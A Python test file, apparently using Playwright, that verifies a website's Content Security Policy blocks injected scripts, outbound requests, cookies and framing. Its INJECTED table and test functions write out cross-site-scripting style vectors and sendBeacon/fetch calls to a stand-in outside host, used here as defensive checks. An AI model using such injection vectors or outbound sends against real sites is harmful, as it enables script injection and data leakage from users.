"""The policy at work: what the site does goes on, what was put into a page does not run. Every page type opens without
a violation in test_pages.py, whose console must stay empty; the other tests do so for what each page type can do."""

import pytest

from .casefiles import LISTS, PAGES, step_box
from .conftest import BY_LANGUAGE, PAGE_TYPES
from .searching import results_of

REFUSAL = ("Content Security Policy", "page’s settings blocked")  # as Chromium says it, and Firefox
MADE = "const made = (tag, has) => document.body.appendChild(Object.assign(document.createElement(tag), has));"
INJECTED = {
    "a script": "made('script', { textContent: 'ran = 1' })",
    "a module": "made('script', { type: 'module', textContent: 'ran = 1' })",
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"ran = 1\">')",
    "a link that is a script": "made('a', { href: 'javascript:ran = 1' }).click()",
    "a script of another host": "made('script', { src: 'https://outside.example/x.js' })",
    "a script as data": "made('script', { src: 'data:text/javascript,ran=1' })",
    "a frame": "made('iframe', { srcdoc: '<script>parent.ran = 1</script>' })",
    "text as a script": "setTimeout('ran = 1', 0); setTimeout(() => new Function('ran = 1')(), 0)",
}


@pytest.mark.parametrize("what", INJECTED)
@pytest.mark.parametrize("path", PAGES)
def test_what_is_put_into_a_page_does_not_run(open_page, path, what):
    page = open_page(path)
    refused = []
    page.on("requestfailed", lambda request: refused.append(request.url))
    page.evaluate(f"() => {{ {MADE} {INJECTED[what]} }}")
    page.wait_for_timeout(150)
    errors, outside = [*page.watched.errors], [*page.watched.outside]
    page.watched.errors.clear()
    page.watched.outside.clear()
    assert page.evaluate("'ran' in window") is False
    assert [error for error in errors if any(words in error for words in REFUSAL)], (errors, outside)
    assert set(outside) <= set(refused), "sent to another host"


@pytest.mark.parametrize("path", LISTS)
def test_nothing_is_sent_or_loaded_from_elsewhere_even_by_the_pages_own_scripts(open_page, path):
    page = open_page(path)
    sent = """async () => {
      navigator.sendBeacon("https://outside.example/", "x");
      return fetch("https://outside.example/").then(() => "sent", () => "refused");
    }"""
    assert page.evaluate(sent) == "refused"
    page.wait_for_timeout(150)  # the console may be told later
    page.watched.errors.clear()


@pytest.mark.parametrize(("name", "language"), BY_LANGUAGE)
def test_no_page_sets_a_cookie(open_page, name, language):
    page = open_page(PAGE_TYPES[name][language])
    assert page.context.cookies() == []
    assert page.evaluate("document.cookie") == ""


@pytest.mark.parametrize("language", [0, 1])
def test_the_site_works_with_the_headers_that_it_gives_to_hosts(open_page, address, site, language):
    lines = (site.folder / "_headers").read_text(encoding="utf-8").splitlines()[1:]
    headers = {name.lower(): value for name, value in (line.strip().split(": ", 1) for line in lines)}
    page = open_page(LISTS[language])

    def with_headers(route):
        answer = route.fetch()
        route.fulfill(response=answer, headers={**answer.headers, **headers})

    page.route(f"{address}**", with_headers)
    page.reload()
    page.wait_for_selector("html[data-scripts=ready]")
    step_box(page, "negotiate").check()
    page.locator("[data-search]").click()
    page.locator("pagefind-input input").wait_for()
    assert results_of(page, "iclei")
    page.goto(address + PAGES[language])
    page.wait_for_selector(".hb-casefile")
    framed = "(address) => { const f = document.createElement('iframe'); f.src = address; document.body.append(f); }"
    page.evaluate(framed, address)
    page.wait_for_timeout(150)
    assert all("frame" in error for error in page.watched.errors)
    assert page.watched.errors
    page.watched.errors.clear()
